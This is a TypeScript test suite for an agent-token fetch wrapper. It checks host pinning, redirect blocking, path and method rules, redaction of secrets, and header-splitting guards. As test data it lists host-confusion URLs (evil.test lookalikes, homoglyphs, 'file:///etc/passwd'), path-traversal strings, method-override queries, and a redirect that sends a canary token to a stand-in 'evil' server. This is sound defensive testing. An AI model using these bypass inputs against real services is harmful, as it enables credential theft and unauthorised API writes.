// Security cases E, 79-93, 380-386: Agent use of tokens. A release waits for 79-83, 380-383, 386.

import dns from 'node:dns'
import { createServer, type RequestListener, type Server } from 'node:http'
import net, { type AddressInfo } from 'node:net'
import { apiKey, type LatchkeyError, oauth, type Provider } from '@latchkey/core'
import * as providers from '@latchkey/core/providers'
import { github } from '@latchkey/core/providers/github'
import { kaggle } from '@latchkey/core/providers/kaggle'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { everythingAllowed } from '../../fixtures/run-accounts.ts'
import { AgentContext, type AllowRule, AuthorizationRequired, createAccountFetch, type UseEntry } from '../index.ts'

const CANARY = 'CANARY_AT_egress'
const servers: Server[] = []

afterEach(() => {
  vi.restoreAllMocks()
  for (const server of servers.splice(0)) server.close().closeAllConnections()
})

interface Seen {
  method: string
  url: string
  headers: Record<string, string | string[] | undefined>
  body: string
}

/** A server with set answers, which records its requests. */
async function listen(answer: RequestListener): Promise<{ url: string; seen: Seen[] }> {
  const seen: Seen[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (piece) => {
      body += piece
    })
    request.on('end', () => {
      seen.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body })
      answer(request, response)
    })
  })
  servers.push(server)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen }
}

const context = new AgentContext({
  userId: 'ada',
  oauthTokens: {
    github: { access_token: CANARY, accountId: 'github.1' },
    kaggle: { access_token: CANARY, fields: { username: 'ada' } },
    hub: { access_token: CANARY },
  },
})

function fetchOf(rules: AllowRule[], log: UseEntry[] = [], fetch?: typeof globalThis.fetch) {
  return createAccountFetch({ rules, context, onUse: (entry) => log.push(entry), fetch })
}

const refused = (asked: Promise<unknown>) =>
  asked.then(
    () => 'sent',
    (error: LatchkeyError) => error.code,
  )

describe('where a token is sent', () => {
  it('case 226: not to a provider that has moved since the page was opened', async () => {
    const sent = vi.fn(async () => Response.json({}))
    const at = (baseUrl: string) => github({ baseUrl })
    const oauthTokens = { github: { access_token: CANARY, accountId: 'github.1', resource: 'https://old.example' } }
    const log: UseEntry[] = []
    const fetchAt = (provider: Provider) =>
      createAccountFetch({
        rules: [{ provider }],
        context: new AgentContext({ userId: 'ada', oauthTokens }),
        onUse: (entry) => log.push(entry),
        fetch: sent,
      })
    const asked = fetchAt(at('https://new.example'))('https://new.example/api/v3/user')
    const error = await asked.catch((thrown: AuthorizationRequired) => thrown)
    expect(error).toBeInstanceOf(AuthorizationRequired)
    expect(error).toMatchObject({ request: { provider: 'github', accountId: 'github.1' } })
    expect(sent).not.toHaveBeenCalled()
    expect(log).toMatchObject([{ action: 'missing', provider: 'github' }])
    expect((await fetchAt(at('https://old.example'))('https://old.example/api/v3/user')).status).toBe(200)
  })

  it('case 79: only the exact API host, refused before DNS otherwise', async () => {
    const log: UseEntry[] = []
    const sent = vi.fn(async () => Response.json({}))
    const lookups = vi.spyOn(dns, 'lookup')
    const sockets = vi.spyOn(net.Socket.prototype, 'connect')
    const strange = [
      'https://api.github.com.evil.test/user',
      'https://api.github.com@evil.test/user',
      'https://ada@api.github.com/user',
      'https://ada:secret@api.github.com/user',
      'http://api.github.com/user',
      'https://api.github.com:8443/user',
      'https://api.github.com:80/user',
      'https://api.github.com./user',
      'https://аpi.github.com/user', // Cyrillic а
      'https://ａｐｉ.github.com/user', // full-width, which parsers fold into the real one
      'https://api%2egithub.com/user',
      'https://api。github.com/user',
      'https://evil.test/api.github.com',
      'https://evil.test/?https://api.github.com/user',
      'https://evil.test#https://api.github.com/user',
      'https://evil.test\\@api.github.com/user',
      'https:\\\\api.github.com/user',
      'https:/api.github.com/user',
      'https:api.github.com/user',
      '//api.github.com/user',
      'https://api.github.com\t/user',
      'https://api.git\nhub.com/user',
      ' https://api.github.com/user',
      'https://github.com/user',
      'https://uploads.github.com/user',
      'https://127.0.0.1/user',
      'ftp://api.github.com/user',
      'javascript:https://api.github.com/user',
      'data:text/plain,https://api.github.com/',
      'file:///etc/passwd',
      'ws://api.github.com/user',
      '',
      '/user',
    ]
    const accountFetch = fetchOf([{ provider: github() }], log, sent as typeof fetch)
    const real = fetchOf([{ provider: github() }], [])
    for (const url of strange) {
      expect(await refused(accountFetch(url)), url).toBe('access_denied')
      expect(await refused(real(url)), url).toBe('access_denied')
    }
    expect(sent).not.toHaveBeenCalled()
    expect(lookups).not.toHaveBeenCalled()
    expect(sockets).not.toHaveBeenCalled()
    expect(log.map(({ action }) => action)).toEqual(strange.map(() => 'refused'))
    expect(JSON.stringify(log)).not.toContain('CANARY')
    for (const url of ['https://api.github.com/user', 'https://API.github.com:443/user?a=b#c']) {
      expect((await accountFetch(url)).status).toBe(200)
    }
    expect(sent).toHaveBeenCalledTimes(2)
  })

  it('case 80: follows no redirect, so no credential arrives elsewhere', async () => {
    const evil = await listen((_, response) => response.end('caught'))
    const hub = await listen((request, response) =>
      response
        .writeHead(Number(request.url?.slice(-3)), { location: `${evil.url}/?k=${CANARY}`, 'set-cookie': 'a=b' })
        .end(),
    )
    const weather = apiKey({
      id: 'hub',
      name: 'Hub',
      keyUrl: 'https://hub.test/keys',
      apiBaseUrl: hub.url,
      baseUrl: hub.url,
      schemes: [{ fields: ['key'], authorization: { header: 'x-api-key', value: 'key' } }],
    })
    const privateToken = apiKey({
      id: 'hub',
      name: 'Hub',
      keyUrl: 'https://hub.test/keys',
      apiBaseUrl: hub.url,
      baseUrl: hub.url,
      schemes: [{ fields: ['key'], authorization: { header: 'private-token', value: 'key' } }],
    })
    const bearer = github({ baseUrl: hub.url })
    for (const [provider, header] of [
      [weather, 'x-api-key'],
      [privateToken, 'private-token'],
      [bearer, 'authorization'],
    ] as const) {
      for (const status of [301, 302, 303, 307, 308]) {
        const accountFetch = fetchOf([{ provider, allow: ['* /**'] }])
        const answer = await accountFetch(`${provider.apiBaseUrl}/${status}`, { method: 'POST', body: 'x' })
        expect(answer.status).toBe(status)
        expect(answer.headers.get('location')).toBe(`${evil.url}/?k=[redacted]`)
        expect(answer.headers.get('set-cookie')).toBeNull()
        expect(hub.seen.at(-1)?.headers[header]).toContain(CANARY)
      }
    }
    expect(evil.seen).toEqual([])
    // Plain fetch would follow the redirect with the service's key.
    await fetch(`${hub.url}/302`, { headers: { 'x-api-key': CANARY, 'private-token': CANARY } })
    expect(evil.seen[0]?.headers).toMatchObject({ 'x-api-key': CANARY, 'private-token': CANARY })
  })

  it('case 91: a rule for reading does not allow writing, and a path stays below the allowed one', async () => {
    const hub = await listen((_, response) => response.end('{}'))
    const provider = github({ baseUrl: hub.url })
    const api = provider.apiBaseUrl
    const log: UseEntry[] = []
    const reading = fetchOf([{ provider }], log)
    for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'delete', 'OPTIONS', 'QUERY']) {
      expect(await refused(reading(`${api}/user/repos`, { method })), method).toBe('access_denied')
    }
    const header = { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE' }
    await reading(`${api}/user/repos`, { headers: header })
    expect(hub.seen).toHaveLength(1)
    expect(Object.keys(hub.seen[0]?.headers ?? {}).join()).not.toContain('override')

    const narrow = fetchOf([{ provider, allow: ['GET /repos/ada/**', 'POST /repos/*/issues'] }], log)
    for (const [method, path] of [
      ['GET', '/user'],
      ['GET', '/repos/ada'],
      ['GET', '/repos/bob/x'],
      ['GET', '/repos/ada/../bob/x'],
      ['GET', '/repos/ada/%2e%2e/bob/x'],
      ['GET', '/repos/ada/..%2fbob/x'],
      ['GET', '/repos/ada/%252e%252e%252fbob/x'],
      ['GET', '/repos/ada/..%5cbob/x'],
      ['GET', '/repos/ada/%ff'],
      ['POST', '/repos/ada/x'],
      ['POST', '/repos/a%2Fb/issues'],
      ['POST', '/repos//issues'],
      ['DELETE', '/repos/ada/issues'],
    ] as const) {
      expect(await refused(narrow(api + path, { method })), `${method} ${path}`).toBe('access_denied')
    }
    // The same host, but not its API: the page where people make tokens.
    expect(await refused(narrow(`${hub.url}/login/oauth/access_token`))).toBe('access_denied')
    expect(await refused(narrow(`${hub.url}/api/v3evil/repos/ada/x`))).toBe('access_denied')
    expect(hub.seen).toHaveLength(1)
    await narrow(`${api}/repos/ada/x/contents/a%2Fb`)
    await narrow(`${api}/repos/ada/issues`, { method: 'POST' })
    expect(hub.seen.map(({ method, url }) => `${method} ${url}`)).toEqual([
      'GET /api/v3/user/repos',
      'GET /api/v3/repos/ada/x/contents/a%2Fb',
      'POST /api/v3/repos/ada/issues',
    ])
    expect(log.filter(({ action }) => action === 'refused')).toHaveLength(22)
    for (const line of ['get user', 'GET /a**', 'GET /**a', 'GET /***']) {
      expect(() => fetchOf([{ provider, allow: [line] }])).toThrow('GET /user/**')
    }
  })

  it('a wildcard stands for one or more segments, or for a part of one', async () => {
    const hub = await listen((_, response) => response.end('{}'))
    const provider = github({ baseUrl: hub.url })
    const may = async (rule: string, path: string) =>
      (await refused(fetchOf([{ provider, allow: [`GET ${rule}`] }])(provider.apiBaseUrl + path))) === 'sent'
    for (const [rule, good, bad] of [
      [
        '/repos/**/blob/**/raw',
        ['/repos/a/blob/b/raw', '/repos/a/b/blob/c/raw/raw'],
        ['/repos/blob/b/raw', '/repos/a/blob/raw'],
      ],
      ['/**', ['/', '/a/b'], []],
      ['/user/**', ['/user/', '/user/a/b'], ['/user', '/users/a']],
      ['/a/*/b', ['/a/x/b'], ['/a/x/y/b', '/a/b']],
      ['/a/*.json', ['/a/x.json', '/a/x.json.json'], ['/a/.json', '/a/b/x.json', '/a/x.jsonp']],
      ['/a/v*-*', ['/a/v1-2', '/a/v---'], ['/a/v-2', '/a/v1-']],
    ] as const) {
      for (const path of good) expect(await may(rule, path), `${rule} ${path}`).toBe(true)
      for (const path of bad) expect(await may(rule, path), `${rule} ${path}`).toBe(false)
    }
  })

  it('case 230: the time to match an address grows no faster than the address, and a long one is refused', async () => {
    const sent = vi.fn(async () => Response.json({}))
    const fetch = sent as typeof globalThis.fetch
    const rules = [{ provider: github(), allow: ['GET /repos/**/blob/**/blob/**/raw', 'GET /a/*-*-*-*-x'] }]
    const log: UseEntry[] = []
    const accountFetch = fetchOf(rules, log, fetch)
    /** Milliseconds of CPU. */
    const time = async (path: string, times: number) => {
      const started = process.cpuUsage()
      const address = `https://api.github.com${path}`
      for (let at = 0; at < times; at++) expect(await refused(accountFetch(address))).toBe('access_denied')
      return process.cpuUsage(started).user / 1000
    }
    for (const path of [
      (length: number) => `/repos/${'blob/'.repeat(length / 5)}x`,
      (length: number) => `/a/${'-'.repeat(length)}`,
      (length: number) => `/a/${'-;/'.repeat(length / 3)}`,
    ]) {
      await time(path(8000), 50)
      const [small, large] = [await time(path(4000), 50), await time(path(8000), 50)]
      expect(large).toBeLessThan(Math.max(100, 3 * small))
      expect(await time(path(200_000), 1)).toBeLessThan(100)
      expect(log.at(-1)?.reason).toBe('it is longer than 8 kB')
    }
    expect(sent).not.toHaveBeenCalled()
  })

  it.each(['/repos/..;/admin', '/repos/;/admin', '/repos/.;x=1/admin', '/repos/%2e%2e;/admin', '/repos/..%3b/admin'])(
    'case 276: a path with %s is refused, since servers read it as another one',
    async (path) => {
      const sent = vi.fn(async () => Response.json({}))
      const accountFetch = fetchOf([{ provider: github(), allow: ['* /**'] }], [], sent as typeof fetch)
      expect(await refused(accountFetch(`https://api.github.com${path}`))).toBe('access_denied')
      expect(await refused(accountFetch('https://api.github.com/repos/a;v=1/b..;c'))).toBe('sent')
      expect(sent).toHaveBeenCalledOnce()
    },
  )

  it('case 276: a query that asks for another method is refused, and one that only has such a word is not', async () => {
    const sent = vi.fn(async () => Response.json({}))
    const accountFetch = fetchOf([{ provider: github(), allow: ['* /**'] }], [], sent as typeof fetch)
    for (const query of [
      '$httpMethod=DELETE',
      '%24httpMethod=DELETE',
      '%24%68ttpMethod=%44ELETE',
      'a=b&_method=delete',
      'method=put',
      'X-HTTP-Method-Override=PATCH',
      'http_method=POST',
    ]) {
      expect(await refused(accountFetch(`https://api.github.com/user?${query}`)), query).toBe('access_denied')
    }
    expect(sent).not.toHaveBeenCalled()
    for (const query of ['method=express', '_method=GET', 'q=$httpMethod=DELETE', 'methods=DELETE']) {
      expect(await refused(accountFetch(`https://api.github.com/user?${query}`)), query).toBe('sent')
    }
  })
})

describe('what a caller sees', () => {
  it('adds the token itself, and drops credentials that the caller sets', async () => {
    const hub = await listen((_, response) => response.end('{}'))
    const provider = github({ baseUrl: hub.url })
    const headers = {
      authorization: 'Bearer mine',
      'proxy-authorization': 'x',
      cookie: 'a=b',
      'x-api-key': 'x',
      'private-token': 'x',
      host: 'evil.test',
      'x-forwarded-host': 'evil.test',
      accept: 'application/vnd.github+json',
      'x-github-api-version': '2022-11-28',
    }
    await fetchOf([{ provider }])(`${provider.apiBaseUrl}/user?page=2`, { headers })
    const [seen] = hub.seen
    expect(seen).toMatchObject({ url: '/api/v3/user?page=2' })
    expect(seen?.headers).toMatchObject({
      authorization: `Bearer ${CANARY}`,
      host: new URL(hub.url).host,
      accept: 'application/vnd.github+json',
      'x-github-api-version': '2022-11-28',
    })
    expect(JSON.stringify(seen)).not.toMatch(/evil|mine|"x"|a=b/)
  })

  it('case 84: the token is redacted from an answer that repeats it', async () => {
    const echo = await listen((request, response) => {
      const said = JSON.stringify(request.headers)
      response.writeHead(200, { link: `<https://x.test/?t=${CANARY}>`, 'x-debug': CANARY })
      response.end(said + btoa(said) + encodeURIComponent(said) + CANARY.split('').join('\n'))
    })
    for (const provider of [github({ baseUrl: echo.url }), kaggle({ baseUrl: echo.url })]) {
      const answer = await fetchOf([{ provider }])(`${provider.apiBaseUrl}/x`)
      const said = JSON.stringify([...answer.headers]) + (await answer.text())
      const sent = String(echo.seen.at(-1)?.headers.authorization)
      for (const secret of [CANARY, sent.split(' ')[1] ?? '', btoa(CANARY).replace(/=*$/, '').slice(0, -1)]) {
        expect(said).not.toContain(secret)
      }
      expect(said.replace(/\n/g, '')).not.toContain(CANARY)
      expect(said).toContain('[redacted]')
    }
  })

  it('case 93: an API that never accepts the token is called twice, then the person is asked for the account', async () => {
    const hub = await listen((_, response) => response.writeHead(401).end())
    const provider = github({ baseUrl: hub.url })
    const asked: unknown[] = []
    const accounts = everythingAllowed(new Map([['github', 'github.1']]), async (id, accountId, request) => {
      asked.push([id, accountId, request])
      return { provider: id, accessToken: `${CANARY}_${asked.length}`, accountId }
    })
    const ours = AgentContext.fromIdentities([], { userId: 'ada', accounts })
    const accountFetch = createAccountFetch({ rules: [{ provider }], context: ours })
    const error = await accountFetch(`${provider.apiBaseUrl}/user`).catch((thrown: unknown) => thrown)
    expect(error).toBeInstanceOf(AuthorizationRequired)
    expect(JSON.parse(JSON.stringify(error))).toMatchObject({ provider: 'github', accountId: 'github.1' })
    expect(hub.seen.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${CANARY}_1`, `Bearer ${CANARY}_2`])
    expect(asked).toMatchObject([
      ['github', 'github.1', { forceRefresh: false }],
      ['github', 'github.1', { forceRefresh: true }],
    ])
    // A token that came with the request cannot be renewed here, only by the page.
    await expect(fetchOf([{ provider }])(`${provider.apiBaseUrl}/user`)).rejects.toThrow(AuthorizationRequired)
    expect(hub.seen).toHaveLength(3)
  })

  it('case 88: a secret that would split a header, or is too long, is refused', () => {
    for (const secret of ['a\r\nx: y', 'a\nb', 'a\0b', 'ä', '', 'x'.repeat(8 * 1024 + 1)]) {
      const make = () => new AgentContext({ userId: 'ada', oauthTokens: { github: { access_token: secret } } })
      expect(make).toThrow(TypeError)
      const identity = { provider: 'github', accessToken: secret }
      expect(AgentContext.fromIdentities([identity]).oauthTokens).toEqual({})
      const fields = { provider: 'kaggle', accessToken: 'x', fields: { username: secret } }
      expect(AgentContext.fromIdentities([fields]).oauthTokens).toEqual({})
    }
  })

  it('case 89: no provider puts a secret in a query or a path', async () => {
    const all = [providers.github(), providers.gmail(), providers.kaggle()]
    const addresses = (value: unknown): string[] => {
      if (typeof value === 'string') return URL.canParse(value) ? [value] : []
      return typeof value === 'object' && value !== null ? Object.values(value).flatMap(addresses) : []
    }
    for (const provider of all) {
      for (const address of addresses(provider)) {
        expect(address.replace('{client_id}', '')).not.toMatch(/[{}]|[?&](access_token|token|key|api_key|secret)=/i)
      }
      const schemes = provider.kind === 'api-key' ? provider.schemes : []
      for (const { authorization } of schemes) expect(Object.keys(authorization).join()).not.toMatch(/query|path|url/i)
    }
    const hub = await listen((_, response) => response.end('{}'))
    const provider = oauth({
      id: 'hub',
      name: 'Hub',
      authorizationEndpoint: `${hub.url}/authorize`,
      tokenEndpoint: `${hub.url}/token`,
      baseUrl: hub.url,
    })
    await fetchOf([{ provider }])(`${hub.url}/things?q=1`)
    expect(hub.seen).toMatchObject([{ url: '/things?q=1', body: '' }])
  })

  it('refuses an answer that is too big, and a network error contains no secret', async () => {
    const big = await listen((_, response) => {
      response.write('x'.repeat(3_000_000))
      response.end('x'.repeat(3_000_000))
    })
    const provider = github({ baseUrl: big.url })
    await expect(fetchOf([{ provider }])(`${provider.apiBaseUrl}/x`)).rejects.toThrow('4 MB')
    const away = fetchOf([{ provider }], [], () => Promise.reject(new TypeError(`no ${CANARY}`)))
    const error = await away(`${provider.apiBaseUrl}/x`).catch((thrown: LatchkeyError) => thrown)
    expect(error).toMatchObject({ code: 'network', message: 'GitHub could not be reached.' })
    expect(JSON.stringify([error, String((error as Error).cause)])).not.toContain('CANARY')
  })
})
